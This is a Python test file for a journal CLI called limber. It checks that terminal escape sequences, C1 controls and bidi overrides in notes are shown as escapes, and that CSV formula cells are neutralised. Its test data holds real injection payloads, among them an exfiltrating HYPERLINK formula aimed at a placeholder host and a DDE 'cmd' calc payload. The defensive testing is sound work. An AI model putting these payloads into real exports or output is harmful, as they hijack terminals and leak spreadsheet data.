#!/usr/bin/env python3
"""Nothing from the journal, a file or the command line reaches a terminal
as it is (docs/reliability.md, "What reaches a terminal, and other
findings").

A note, a reason or a name written with `limber log --note` or brought in
by `limber import` can hold ESC sequences (clear the screen, set the
window's title, colour text), C1 controls (U+009B is a CSI to many
terminals) and direction overrides (U+202E reverses what follows). These
tests put such texts in the journal of the real program and check every
way it shows them: `limber history`, its --csv and --json, `limber export`
to a terminal (a pseudo-terminal here) and to a pipe, and messages that
quote input or file names. They also check that CSV cells that a
spreadsheet would run as a formula are neutralised, and numbers are not.
The page's own check is in test_abuse.py (it needs the web build).

usage: test_escape.py PATH-TO-LIMBER SOURCE-ROOT
"""
import csv
import io
import json
import os
import pty
import select
import subprocess
import sys
import termios
import time

import harness
from harness import LIMBER, expect, expect_eq, test

# What a hostile note holds: clear the screen, an OSC window title ended
# by BEL, a C1 CSI (U+009B) that colours text red, a right-to-left
# override, a right-to-left mark and a CR that writes over the line.
NASTY = ("hi \x1b[2J \x1b]0;pwned\x07 \u009b31mred \u202eevil \u200f"
         "x\rfake")


class Home(harness.Home):
    PREFIX = "limber-escape-"
    ENV = {"TZ": "UTC"}


def unsafe(text, allow="\n"):
    """The characters of text that a terminal could obey: C0 (but those in
    allow), DEL, C1, the line separators and the direction marks."""
    bad = []
    for i, c in enumerate(text):
        o = ord(c)
        if c in allow and (c != "\r" or text[i + 1:i + 2] == "\n"):
            continue
        if (o < 0x20 or 0x7f <= o <= 0x9f or o in (0x61c, 0x200e, 0x200f)
                or 0x2028 <= o <= 0x202e or 0x2066 <= o <= 0x2069):
            bad.append(c)
    return bad


def expect_safe(text, what, allow="\n"):
    bad = unsafe(text, allow)
    expect(not bad, "%s holds raw control characters %r: %r"
           % (what, sorted(set(bad)), text[:400]))


def expect_shown(text, what):
    """The nasty note's characters are there, shown as escapes."""
    for shown in ("\\u001b[2J", "\\u001b]0;pwned\\u0007", "\\u009b31mred",
                  "\\u202eevil", "\\u200f", "x\\u000dfake"):
        expect(shown in text, "%s does not show %s: %r"
               % (what, shown, text[:400]))


def on_terminal(h, *args):
    """Run limber with its standard output on a pseudo-terminal: (status,
    what the terminal received, stderr). The terminal passes the bytes on
    as they are (no LF to CR LF), so that they can be checked."""
    master, slave = pty.openpty()
    attrs = termios.tcgetattr(slave)
    attrs[1] &= ~termios.OPOST
    termios.tcsetattr(slave, termios.TCSANOW, attrs)
    p = subprocess.Popen([LIMBER, *args], stdin=subprocess.DEVNULL,
                         stdout=slave, stderr=subprocess.PIPE,
                         env=h.env())
    os.close(slave)
    out = b""
    deadline = time.time() + h.TIMEOUT
    while time.time() < deadline:
        r, _, _ = select.select([master], [], [], 1)
        if not r:
            if p.poll() is not None:
                break
            continue
        try:
            chunk = os.read(master, 65536)
        except OSError:     # EIO: the program closed its end
            break
        if not chunk:
            break
        out += chunk
    os.close(master)
    err = p.stderr.read()
    p.stderr.close()
    rc = p.wait(timeout=h.TIMEOUT)
    return rc, out.decode("utf-8"), err.decode("utf-8", "replace")


def journal_with_nasty_texts(h):
    """A journal whose every kind of free text is NASTY: a note, a pain
    score's note, a clearance's note, and (imported) a stopped session's
    reason, its stretch and variant ids, its plan's names and its notes."""
    h.ok("log", "--note", NASTY)
    h.ok("log", "--pain", "3", "--note", NASTY)
    h.ok("log", "--cleared", "--note", NASTY)
    plan = json.loads(h.ok("plan", "--json"))
    for it in plan["items"]:
        it["name"] = NASTY
    start = "2026-11-25T09:16:00Z"
    doc = {"limber_journal": 1, "screenings": [], "pain": [], "notes": [],
           "clearances": [], "doses": [], "sessions": [{
               "started": start, "ended": "2026-11-25T09:20:00Z",
               "state": "stopped", "reason": NASTY, "last_step": 3,
               "next_day": None, "screening": None, "plan": plan,
               "stretches": [{"at": "2026-11-25T09:17:00Z",
                              "stretch": plan["items"][0]["stretch"],
                              "variant": NASTY, "reps": 2, "sides": 1,
                              "skipped": False}],
               "pain": [{"at": start, "kind": "before", "value": 2,
                         "area": "lower", "note": NASTY}],
               "notes": [{"at": "2026-11-25T09:19:00Z", "text": NASTY}]}]}
    path = h.path("nasty.json")
    with open(path, "w") as f:
        json.dump(doc, f)
    h.ok("import", path)


@test
def history_shows_control_characters_visibly():
    """`limber history` prints every note, reason and name with its control
    characters shown as \\u001b and the like, never as they are, even to a
    pipe (its text is for reading): the ESC[2J, the OSC title, the C1 CSI
    and the right-to-left override are all there to see, none obeyed."""
    with Home() as h:
        journal_with_nasty_texts(h)
        out = h.ok("history")
        expect_safe(out, "limber history")
        expect_shown(out, "limber history")
        # Each place a text goes: the note, the pain note, the clearance,
        # the session's reason, its stretch's name and variant, its notes.
        expect(out.count("\\u001b[2J") >= 7, "not every text shown: %r"
               % out)
        rc, out, err = on_terminal(h, "history")
        expect_eq(rc, 0, "history on a terminal: " + err)
        expect_safe(out, "limber history on a terminal")
        expect_shown(out, "limber history on a terminal")


@test
def history_shows_direction_marks_in_an_activitys_name():
    """An activity of the PSFS (brought in by `limber import`, which takes
    the direction marks that `limber log --psfs` refuses) reaches the
    history with its right-to-left override and mark shown, on a pipe and
    on a terminal."""
    with Home() as h:
        name = "walk \u202eevil \u200f x"
        doc = {"limber_journal": 3, "screenings": [], "sessions": [],
               "pain": [], "notes": [], "clearances": [], "doses": [],
               "peg": [], "psfs": [{"at": "2026-11-25T09:16:00Z",
                                    "activities": [{"activity": name,
                                                    "score": 3}]}]}
        path = h.path("in.json")
        with open(path, "w", encoding="utf-8") as f:
            json.dump(doc, f)
        rc, _, err = h.run("import", path)
        expect_eq(rc, 0, "import: " + err)
        for what, (rc, out, err) in (("a pipe", h.run("history")),
                                     ("a terminal",
                                      on_terminal(h, "history"))):
            expect_eq((rc, err), (0, ""), what)
            expect_safe(out, "limber history on " + what, allow="\n\r")
            expect("\\u202eevil \\u200f" in out, "%s: %r" % (what, out))


@test
def exports_show_control_characters_on_a_terminal_only():
    """On a terminal, `limber export` (JSON, CSV, FHIR) and `limber history
    --csv/--json` show the control characters; the JSON stays valid JSON
    that says the same. To a pipe or a file they are the journal's own
    bytes, so nothing is lost."""
    with Home() as h:
        journal_with_nasty_texts(h)
        for args in (["export"], ["export", "--format", "csv"],
                     ["export", "--format", "fhir"], ["history", "--csv"],
                     ["history", "--json"]):
            what = "limber " + " ".join(args)
            rc, term, err = on_terminal(h, *args)
            expect_eq(rc, 0, what + " on a terminal: " + err)
            expect_safe(term, what + " on a terminal", allow="\r\n")
            rc, piped, err = h.run(*args)
            expect_eq(rc, 0, what + ": " + err)
            if "csv" in args or "--csv" in args:
                expect_shown(term, what + " on a terminal")
                # (Text mode reads the note's CR as a line end.)
                expect(NASTY.split("\r")[0] in piped,
                       what + " to a pipe lost the note's bytes")
            elif "fhir" not in args:
                # The terminal's JSON reads back as the pipe's does.
                expect_eq(json.loads(term.replace("\r\n", "\n")),
                          json.loads(piped), what + " on a terminal")


@test
def csv_formula_cells_are_neutralised_and_numbers_are_not():
    """A text cell that starts with =, +, -, @, a tab or a CR would run as
    a formula in a spreadsheet: it gets a ' in front (OWASP). A number
    cell, a last_step of -1 say, is written as it is."""
    texts = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+2",
             "-2+3", "@SUM(A1:A9)", "\tx", "a=b is fine"]
    with Home() as h:
        for t in texts:
            h.ok("log", "--note", t)
        h.ok("log", "--pain", "4", "--note", "-cmd|' /C calc'!A0")
        plan = json.loads(h.ok("plan", "--json"))
        doc = {"limber_journal": 1, "screenings": [], "pain": [],
               "notes": [], "clearances": [], "doses": [], "sessions": [{
                   "started": "2026-11-25T09:16:00Z",
                   "ended": "2026-11-25T09:16:30Z", "state": "stopped",
                   "reason": "=1+1", "last_step": -1, "next_day": None,
                   "screening": None, "plan": plan, "stretches": [],
                   "pain": [], "notes": []}]}
        path = h.path("in.json")
        with open(path, "w") as f:
            json.dump(doc, f)
        h.ok("import", path)
        for args in (["export", "--format", "csv"], ["history", "--csv"]):
            rows = list(csv.DictReader(io.StringIO(h.ok(*args),
                                                   newline="")))
            notes = [r["note"] for r in rows if r["record"] == "note"]
            for t in texts[:-1]:
                expect("'" + t in notes, "%s: %r not neutralised: %r"
                       % (args, t, notes))
            expect("a=b is fine" in notes, "%s: a plain note changed: %r"
                   % (args, notes))
            pain = [r for r in rows if r["record"] == "pain"]
            expect_eq(pain[0]["note"], "'-cmd|' /C calc'!A0", "pain note")
            expect_eq(pain[0]["pain"], "4", "the pain score")
            sess = [r for r in rows if r["record"] == "session"][0]
            expect_eq(sess["reason"], "'=1+1", "the reason")
            expect_eq(sess["last_step"], "-1", "a negative number")
        # The JSON export keeps the texts exactly.
        got = [n["text"] for n in json.loads(h.ok("export"))["notes"]]
        expect_eq(got, texts, "the JSON export's notes")


@test
def messages_that_quote_input_show_control_characters():
    """An error message that quotes what was typed, or a file's name or
    field, shows control characters and bytes that are not UTF-8 instead
    of sending them to the terminal."""
    with Home() as h:
        for args in (["show", "\x1b]0;pwned\x07"],
                     ["history", "--since", "\x1b[2J\u202e"],
                     ["plan", "--context", "\u009b31m"],
                     ["show", "neck-rolls", "--variant", "\x1b[31m",
                      "--svg", h.path("x.svg")],
                     ["nosuchcommand\x1b[2J"]):
            rc, out, err = h.run(*args)
            expect(rc != 0, "%r was taken" % args)
            expect_safe(out + err, "the message for %r" % args)
            expect("\\u00" in err or "\\u202e" in err,
                   "the input is not shown: %r" % err)
        # A byte that is not UTF-8 (0x9b is CSI to a Latin-1 terminal).
        p = subprocess.run([LIMBER, "show", b"x\x9b31m"],
                           capture_output=True, env=h.env(), timeout=30)
        expect(p.returncode != 0, "a bad stretch id was taken")
        expect(b"\x9b" not in p.stderr, "raw 0x9b: %r" % p.stderr)
        expect(b"x\\x9b31m" in p.stderr, "0x9b not shown: %r" % p.stderr)
        # A catalog file whose name and field hold ESC sequences.
        name = h.path("bad\x1b[2J.json")
        with open(name, "w") as f:
            f.write('{"id": "x", "\\u001b]0;pwned\\u0007": 1}')
        rc, out, err = h.run("catalog", "check", name)
        expect_eq(rc, 1, "catalog check of a bad file")
        expect_safe(out + err, "catalog check's message")
        expect("bad\\u001b[2J.json" in err, "the file is not named: %r"
               % err)


if __name__ == "__main__":
    sys.exit(harness.main("escape"))
